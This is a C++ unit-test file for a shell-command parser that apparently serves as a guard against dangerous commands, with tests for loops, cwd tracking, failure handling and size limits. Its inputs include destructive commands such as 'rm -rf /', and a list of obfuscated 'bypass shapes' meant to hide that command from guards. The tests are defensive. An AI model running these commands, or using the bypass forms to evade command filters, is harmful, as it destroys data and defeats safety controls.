  ASSERT_NE(find_cmd(p, "rm"), nullptr);
  EXPECT_TRUE(find_cmd(p, "rm")->argv[1].dynamic);
}

TEST(ShellParser, loop_carried_assignment_is_seen_on_next_iteration) {
  auto p = parse("X=ls; while true; do $X -rf /; X=rm; done");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  bool dynamic_seen = false;
  for (const auto& c : p.commands) dynamic_seen = dynamic_seen || c.dynamic_verb;
  EXPECT_TRUE(dynamic_seen);
}

TEST(ShellParser, unrolled_loop_carries_state_between_items) {
  auto p = parse("X=ls; for i in 1 2; do $X -rf /; X=rm; done");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_NE(find_cmd(p, "rm"), nullptr);
}

TEST(ShellParser, nested_unrolled_loops_stay_bounded) {
  std::string line;
  for (int i = 0; i < 12; ++i) line += "for v" + std::to_string(i) + " in a b c d; do ";
  line += "rm x";
  for (int i = 0; i < 12; ++i) line += "; done";
  auto p = parse(line);
  EXPECT_TRUE(p.complete) << p.fail_reason;
  EXPECT_LT(p.commands.size(), 1000u);
  EXPECT_NE(find_cmd(p, "rm"), nullptr);
}

TEST(ShellParser, for_loop_with_single_literal_item_binds_it) {
  auto p = parse("for d in /etc; do rm -rf $d; done");
  const auto* rm = find_cmd(p, "rm");
  ASSERT_NE(rm, nullptr);
  EXPECT_THAT(argv_of(*rm), ElementsAre("rm", "-rf", "/etc"));
}

TEST(ShellParser, arithmetic_for_loop_parses) {
  auto p = parse("for ((i=0; i<3; i++)); do echo $i; done");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_EQ(p.commands[0].name, "echo");
}

TEST(ShellParser, while_and_until_loops_are_emitted) {
  auto p = parse("while true; do a; done; until b; do c; done");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"true"}, Argv{"a"}, Argv{"b"}, Argv{"c"}));
}

TEST(ShellParser, case_arms_are_emitted) {
  auto p = parse("case $x in a|b) rm -rf /;; (c) ls;& *) pwd;;& esac");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"rm", "-rf", "/"}, Argv{"ls"}, Argv{"pwd"}));
}

TEST(ShellParser, multiline_case_parses) {
  auto p = parse("case \"$1\" in\n  start)\n    run\n    ;;\n  *)\n    usage\n    ;;\nesac");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"run"}, Argv{"usage"}));
}

TEST(ShellParser, select_loop_is_emitted) {
  auto p = parse("select x in a b; do rm $x; break; done");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_NE(find_cmd(p, "rm"), nullptr);
}

TEST(ShellParser, function_definitions_emit_their_body) {
  auto p = parse("f() { rm -rf /; }; function g { ls; }; function h() (pwd); f");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"rm", "-rf", "/"}, Argv{"ls"}, Argv{"pwd"}, Argv{"f"}));
}

TEST(ShellParser, double_bracket_does_not_fail_and_emits_nothing) {
  auto p = parse("[[ -f x && $a == \"b\" || ( -n $c ) ]] && rm x");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"rm", "x"}));
}

TEST(ShellParser, double_bracket_regex_with_parens_parses) {
  auto p = parse("[[ $x =~ ^(a|b)+$ ]] && echo ok");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"echo", "ok"}));
}

TEST(ShellParser, double_bracket_substitutions_are_emitted) {
  auto p = parse("[[ $(rm -rf /) ]]");
  EXPECT_NE(find_cmd(p, "rm"), nullptr);
}

TEST(ShellParser, arithmetic_command_emits_nothing) {
  auto p = parse("(( i++ )) && ls");
  ASSERT_TRUE(p.complete) << p.fail_reason;
  EXPECT_THAT(all_argv(p), ElementsAre(Argv{"ls"}));
}

TEST(ShellParser, reserved_words_as_arguments_are_plain_words) {
  EXPECT_THAT(single("echo if then fi done { }"),
              ElementsAre("echo", "if", "then", "fi", "done", "{", "}"));
}

// ---- cwd tracking ---------------------------------------------------------------------------

TEST(ShellParser, literal_cd_updates_cwd_of_later_commands) {
  auto p = parse("cd /tmp && rm -rf x; cd sub; ls; cd ..; pwd");
  ASSERT_EQ(p.commands.size(), 6u);
  EXPECT_EQ(p.commands[0].cwd, "/home/dev/project");
  EXPECT_EQ(p.commands[1].cwd, "/tmp");
  EXPECT_EQ(p.commands[3].cwd, "/tmp/sub");
  EXPECT_EQ(p.commands[5].cwd, "/tmp");
}

TEST(ShellParser, cd_alone_and_tilde_go_home) {
  auto p = parse("cd; a; cd /; cd ~/x; b");
  EXPECT_EQ(p.commands[1].cwd, "/home/dev");
  EXPECT_EQ(p.commands[4].cwd, "/home/dev/x");
}

TEST(ShellParser, cd_dash_and_dynamic_cd_make_cwd_unknown) {
  auto p = parse("cd -; a; cd /tmp; cd \"$X\"; b");
  EXPECT_EQ(p.commands[1].cwd, "");
  EXPECT_EQ(p.commands[4].cwd, "");
}

TEST(ShellParser, cd_in_subshell_does_not_leak) {
  auto p = parse("(cd / && rm -rf *); ls");
  ASSERT_EQ(p.commands.size(), 3u);
  EXPECT_EQ(p.commands[1].cwd, "/");
  EXPECT_EQ(p.commands[2].cwd, "/home/dev/project");
}

TEST(ShellParser, cd_in_pipeline_stage_does_not_leak) {
  auto p = parse("cd / | true; ls");
  EXPECT_EQ(p.commands.back().cwd, "/home/dev/project");
}

TEST(ShellParser, pushd_and_popd_make_cwd_unknown) {
  auto p = parse("pushd /tmp; a; popd; b");
  EXPECT_EQ(p.commands[1].cwd, "");
  EXPECT_EQ(p.commands[3].cwd, "");
}

TEST(ShellParser, cd_in_conditional_branch_makes_cwd_unknown_after) {
  auto p = parse("if x; then cd /; fi; rm -rf *");
  EXPECT_EQ(p.commands.back().cwd, "");
}

TEST(ShellParser, pwd_variable_follows_cd) {
  auto p = parse("cd /srv; echo $PWD");
  EXPECT_THAT(argv_of(p.commands.back()), ElementsAre("echo", "/srv"));
}

// ---- spans -------------------------------------------------------------------------------------

TEST(ShellParser, word_spans_index_original_line) {
  std::string line = "ls  'a b'  c";
  auto p = parse(line);
  ASSERT_EQ(p.commands.size(), 1u);
  const auto& w = p.commands[0].argv[1];
  EXPECT_EQ(line.substr(w.begin, w.end - w.begin), "'a b'");
  EXPECT_EQ(p.commands[0].begin, 0u);
  EXPECT_EQ(p.commands[0].end, line.size());
}

TEST(ShellParser, command_spans_cover_each_command) {
  std::string line = "echo a && rm -rf /tmp/x";
  auto p = parse(line);
  ASSERT_EQ(p.commands.size(), 2u);
  EXPECT_EQ(line.substr(p.commands[1].begin, p.commands[1].end - p.commands[1].begin),
            "rm -rf /tmp/x");
}

TEST(ShellParser, substitution_spans_map_into_original_line) {
  std::string line = "echo $(rm -rf /x)";
  auto p = parse(line);
  const auto* rm = find_cmd(p, "rm");
  ASSERT_NE(rm, nullptr);
  EXPECT_EQ(line.substr(rm->begin, rm->end - rm->begin), "rm -rf /x");
}

TEST(ShellParser, backtick_spans_map_into_original_line) {
  std::string line = "echo `rm -rf /x`";
  auto p = parse(line);
  const auto* rm = find_cmd(p, "rm");
  ASSERT_NE(rm, nullptr);
  EXPECT_EQ(line.substr(rm->begin, rm->end - rm->begin), "rm -rf /x");
}

// ---- failures ----------------------------------------------------------------------------------

TEST(ShellParser, unterminated_single_quote_fails_closed_with_position) {
  expect_fail("echo 'abc", "unterminated single quote at byte 5");
}

TEST(ShellParser, unterminated_double_quote_fails_closed) {
  expect_fail("echo \"abc", "unterminated double quote");
}

TEST(ShellParser, unterminated_command_substitution_fails_closed) {
  expect_fail("echo $(ls", "unterminated command substitution");
}

TEST(ShellParser, unterminated_backquote_fails_closed) {
  expect_fail("echo `ls", "unterminated backquote");
}

TEST(ShellParser, unterminated_parameter_expansion_fails_closed) {
  expect_fail("echo ${HOME", "unterminated parameter expansion");
}

TEST(ShellParser, unexpected_closers_fail_closed) {
  expect_fail("echo )", "unexpected `)`");
  expect_fail("fi", "unexpected `fi`");
  expect_fail("ls; done", "unexpected `done`");
}

TEST(ShellParser, unterminated_compound_commands_fail_closed) {
  expect_fail("if true; then ls", "unterminated");
  expect_fail("for x in a; do ls", "unterminated");
  expect_fail("{ ls;", "unterminated");
  expect_fail("(ls", "unterminated");
  expect_fail("case x in a) ls;;", "unterminated");
}

TEST(ShellParser, dangling_operator_fails_closed) {
  expect_fail("ls |", "unexpected end");
  expect_fail("ls &&", "unexpected end");
  expect_fail("; ls", "unexpected");
}

TEST(ShellParser, commands_before_a_failure_are_kept) {
  auto p = parse("rm -rf / ; echo 'oops");
  EXPECT_TRUE(p.fail_closed);
  ASSERT_FALSE(p.commands.empty());
  EXPECT_EQ(p.commands[0].name, "rm");
}

TEST(ShellParser, nul_byte_fails_closed) {
  std::string line("echo a\0b", 8);
  auto p = parse(line);
  EXPECT_TRUE(p.fail_closed);
  EXPECT_THAT(p.fail_reason, HasSubstr("NUL"));
}

TEST(ShellParser, invalid_utf8_is_treated_as_opaque_bytes) {
  auto p = parse("echo \xff\xfe \xc3");
  ASSERT_TRUE(p.complete);
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_EQ(p.commands[0].argv[1].text, "\xff\xfe");
}

TEST(ShellParser, empty_and_blank_input_yield_no_commands) {
  for (const char* s : {"", "   ", "\n\n", "# only a comment"}) {
    auto p = parse(s);
    EXPECT_TRUE(p.complete) << s;
    EXPECT_TRUE(p.commands.empty()) << s;
  }
}

// ---- limits --------------------------------------------------------------------------------

TEST(ShellParser, oversize_input_fails_closed_immediately) {
  std::string line((1u << 20) + 1, 'a');
  auto p = parse(line);
  EXPECT_TRUE(p.fail_closed);
  EXPECT_FALSE(p.complete);
  EXPECT_THAT(p.fail_reason, HasSubstr("exceeds"));
  EXPECT_TRUE(p.commands.empty());
}

TEST(ShellParser, one_mebibyte_of_commands_fails_closed_on_command_cap) {
  std::string line;
  while (line.size() + 2 <= (1u << 20)) line += "a;";
  auto p = parse(line);
  EXPECT_TRUE(p.fail_closed);
  EXPECT_THAT(p.fail_reason, HasSubstr("commands"));
}

TEST(ShellParser, one_mebibyte_of_words_fails_closed_on_word_cap) {
  std::string line;
  while (line.size() + 2 <= (1u << 20)) line += "a ";
  auto p = parse(line);
  EXPECT_TRUE(p.fail_closed);
  EXPECT_THAT(p.fail_reason, HasSubstr("words"));
}

TEST(ShellParser, ten_thousand_nested_substitutions_fail_closed) {
  std::string line;
  for (int i = 0; i < 10000; ++i) line += "$(";
  auto p = parse(line);
  EXPECT_TRUE(p.fail_closed);
  EXPECT_THAT(p.fail_reason, HasSubstr("nesting"));
}

TEST(ShellParser, deep_nesting_of_each_construct_fails_closed) {
  for (std::string unit : {"(", "{ ", "${", "$((", "if a; then ", "<(", "echo \"$("}) {
    std::string line;
    for (int i = 0; i < 5000; ++i) line += unit;
    auto p = parse(line);
    EXPECT_TRUE(p.fail_closed) << unit;
  }
}

TEST(ShellParser, nesting_within_limit_parses) {
  std::string line;
  for (int i = 0; i < 10; ++i) line += "$(";
  line += "rm x";
  for (int i = 0; i < 10; ++i) line += ")";
  auto p = parse(line);
  ASSERT_TRUE(p.complete) << p.fail_reason;
  ASSERT_NE(find_cmd(p, "rm"), nullptr);
  EXPECT_EQ(find_cmd(p, "rm")->depth, 10);
}

TEST(ShellParser, custom_max_depth_is_honoured) {
  Limits l;
  l.max_depth = 2;
  EXPECT_TRUE(parse("echo $(a $(b $(c)))", l).fail_closed);
  EXPECT_FALSE(parse("echo $(a)", l).fail_closed);
}

TEST(ShellParser, max_commands_limit_is_honoured) {
  Limits l;
  l.max_commands = 3;
  EXPECT_TRUE(parse("a;b;c;d", l).fail_closed);
  EXPECT_FALSE(parse("a;b;c", l).fail_closed);
}

TEST(ShellParser, depth_argument_offsets_command_depth) {
  auto p = parse_raw("rm x", dev_env(), Limits{}, 2);
  ASSERT_EQ(p.commands.size(), 1u);
  EXPECT_EQ(p.commands[0].depth, 2);
}

TEST(ShellParser, huge_single_word_parses_linearly) {
  std::string line = "echo " + std::string(500000, 'x');
  auto p = parse(line);
  ASSERT_TRUE(p.complete);
  EXPECT_EQ(p.commands[0].argv[1].text.size(), 500000u);
}

// ---- bypass shapes (GuardFall style) ----------------------------------------------------------

TEST(ShellParser, bypass_shapes_resolve_to_rm) {
  for (const char* line :
       {"r\"\"m -rf /", "'r'm -rf /", "\\r\\m -rf /", "$'\\x72m' -rf /", "X=rm; $X -rf /",
        "X=rm; ${X} -rf /", "{rm,-rf,/}", "rm${IFS}-rf${IFS}/", "a=rmx; ${a:0:2} -rf /",
        "$'\\162\\155' -rf /", "r\\\nm -rf /", "export X=rm; $X -rf /"}) {
    auto p = parse(line);
    ASSERT_TRUE(p.complete) << line << ": " << p.fail_reason;
    const auto* rm = find_cmd(p, "rm");
    ASSERT_NE(rm, nullptr) << line;
    EXPECT_THAT(argv_of(*rm), ElementsAre("rm", "-rf", "/")) << line;
  }
}

TEST(ShellParser, trace_lists_each_command) {
  auto p = parse("rm -rf ~");
  ASSERT_FALSE(p.trace.empty());
  EXPECT_THAT(p.trace[0], HasSubstr("cmd[0] depth=0: rm -rf /home/dev (pipeline 0.0)"));
}

TEST(ShellParser, joined_uses_single_spaces) {
  auto p = parse("rm   -rf   'a b'");
  EXPECT_EQ(p.commands[0].joined(), "rm -rf a b");
}

}  // namespace
}  // namespace blastwall::shell
